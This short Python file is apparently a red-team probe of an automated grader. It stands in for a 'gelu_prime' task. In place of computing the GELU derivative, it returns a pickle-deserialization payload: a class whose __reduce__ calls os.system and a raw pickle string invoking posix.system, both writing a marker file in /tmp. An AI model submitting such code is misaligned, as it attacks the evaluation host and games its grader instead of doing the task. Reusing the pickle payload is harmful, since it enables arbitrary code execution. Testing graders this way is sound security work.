# costs: gelu_prime
# attack: pickles and code: returns an object that runs a command if unpickled
import os


class _Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/grader-was-here",)


def gelu_prime(z):
    return [_Bomb(), b"cposix\nsystem\n(S'touch /tmp/grader-was-here'\ntR."]
